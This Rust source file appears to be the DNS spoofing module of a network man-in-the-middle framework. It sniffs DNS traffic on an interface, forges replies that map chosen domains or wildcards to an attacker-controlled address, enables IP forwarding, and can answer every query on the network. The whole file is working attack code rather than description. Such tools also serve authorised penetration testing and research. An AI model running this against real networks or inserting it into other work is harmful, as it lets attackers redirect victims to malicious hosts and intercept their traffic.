//! DNS spoofer
//!
//! Sniffs DNS queries on the interface and races the real resolver with a
//! forged answer for every name found in the host table.

pub mod hosts;
pub mod reply;

pub use hosts::{HostEntry, Hosts};
pub use reply::Responder;

use async_trait::async_trait;
use netspoof_capture::{filters, Frames, PacketSource};
use netspoof_core::{Error, ParamDescriptor, ParameterType, Result, Session};
use netspoof_module::{Lifecycle, Module, WorkerContext};
use parking_lot::RwLock;
use std::sync::Arc;
use tracing::{debug, error, info};

pub const NAME: &str = "dns.spoof";

pub const PARAM_HOSTS: &str = "dns.spoof.hosts";
pub const PARAM_DOMAINS: &str = "dns.spoof.domains";
pub const PARAM_ADDRESS: &str = "dns.spoof.address";
pub const PARAM_ALL: &str = "dns.spoof.all";
pub const PARAM_TTL: &str = "dns.spoof.ttl";

const DEFAULT_TTL: &str = "1024";

/// The `dns.spoof` module
pub struct DnsSpoofer {
    session: Arc<Session>,
    lifecycle: Lifecycle,
    source: Arc<dyn PacketSource>,
    responder: RwLock<Option<Arc<Responder>>>,
}

impl DnsSpoofer {
    pub fn new(session: Arc<Session>, source: Arc<dyn PacketSource>) -> Self {
        let spoofer = Self {
            lifecycle: Lifecycle::new(NAME),
            responder: RwLock::new(None),
            session,
            source,
        };
        for param in spoofer.parameters() {
            spoofer.session.params.register(param);
        }
        spoofer
    }

    /// Responder built by the last successful `configure`
    pub fn responder(&self) -> Option<Arc<Responder>> {
        self.responder.read().clone()
    }

    fn load_hosts(&self) -> Result<Hosts> {
        let params = &self.session.params;
        let domains = params.list(PARAM_DOMAINS)?;
        let path = params.string(PARAM_HOSTS)?;
        if domains.is_empty() && path.is_empty() {
            return Err(Error::invalid_parameter(
                PARAM_DOMAINS,
                "at least dns.spoof.hosts or dns.spoof.domains must be filled",
            ));
        }

        let address = params.ip(PARAM_ADDRESS)?;
        let mut hosts = Hosts::from_domains(&domains, address);
        if !path.is_empty() {
            info!(path = %path, "Loading hosts");
            hosts.extend(Hosts::from_file(&path, address)?);
        }
        if hosts.is_empty() {
            return Err(Error::invalid_parameter(PARAM_HOSTS, format!("no entries in {}", path)));
        }

        for entry in hosts.entries() {
            info!("{}", entry);
        }
        Ok(hosts)
    }
}

async fn sniff(
    session: Arc<Session>,
    mut frames: Frames,
    responder: Arc<Responder>,
    ctx: WorkerContext,
) -> Result<()> {
    let cancel = ctx.cancel_token();
    info!(entries = responder.hosts().len(), "DNS spoofer started");

    loop {
        tokio::select! {
            _ = cancel.cancelled() => break,
            packet = frames.recv() => {
                let Some(packet) = packet else {
                    debug!("Capture closed");
                    break;
                };
                if let Some(reply) = responder.respond(packet.data()) {
                    if let Err(e) = session.sender.send(&reply) {
                        error!(error = %e, "Error sending spoofed DNS reply");
                    }
                }
            }
        }
    }

    frames.close().await;
    Ok(())
}

#[async_trait]
impl Module for DnsSpoofer {
    fn name(&self) -> &str {
        NAME
    }

    fn description(&self) -> &str {
        "Replies to DNS messages with spoofed responses."
    }

    fn parameters(&self) -> Vec<ParamDescriptor> {
        let default_address = self
            .session
            .interface
            .ipv4_addr()
            .map(|ip| ip.to_string())
            .or_else(|| self.session.interface.ipv6_addr().map(|ip| ip.to_string()))
            .unwrap_or_default();

        vec![
            ParamDescriptor::new(PARAM_HOSTS, ParameterType::String)
                .with_description("If not empty, this hosts file will be used to map domains to IP addresses."),
            ParamDescriptor::new(PARAM_DOMAINS, ParameterType::List)
                .with_description("Comma separated values of domain names to spoof, wildcards like *.example.com are allowed."),
            ParamDescriptor::new(PARAM_ADDRESS, ParameterType::IpAddr)
                .with_default(default_address)
                .with_description("IP address to map the domains to."),
            ParamDescriptor::new(PARAM_ALL, ParameterType::Bool)
                .with_default("false")
                .with_description("If true the module will reply to every DNS request, otherwise it will only reply to the one targeting the local address."),
            ParamDescriptor::new(PARAM_TTL, ParameterType::U32)
                .with_default(DEFAULT_TTL)
                .with_description("TTL of spoofed DNS replies."),
        ]
    }

    fn running(&self) -> bool {
        self.lifecycle.is_running()
    }

    async fn configure(&self) -> Result<()> {
        self.lifecycle.ensure_stopped()?;

        let hosts = self.load_hosts()?;
        let all = self.session.params.bool(PARAM_ALL)?;
        let ttl = self.session.params.u32(PARAM_TTL)?;

        let forwarding = &self.session.forwarding;
        if !forwarding.is_forwarding_enabled() {
            info!("Enabling forwarding");
            forwarding.enable_forwarding(true)?;
        }

        debug!(entries = hosts.len(), all, ttl, "Configured");
        *self.responder.write() = Some(Arc::new(Responder::new(
            self.session.own_mac(),
            hosts,
            all,
            ttl,
        )));
        Ok(())
    }

    async fn start(&self) -> Result<()> {
        self.lifecycle
            .try_start(self.configure(), |ctx| {
                let responder = self.responder().ok_or_else(|| {
                    Error::ExecutionFailed("DNS spoofer is not configured".to_string())
                })?;
                let frames = self
                    .source
                    .open(&filters::dns_filter(), ctx.cancel_token())?;
                Ok(sniff(Arc::clone(&self.session), frames, responder, ctx))
            })
            .await
            .map(|_| ())
    }

    async fn stop(&self) -> Result<()> {
        self.lifecycle
            .stop(async {
                info!("Waiting for DNS spoofer to stop");
            })
            .await
    }
}
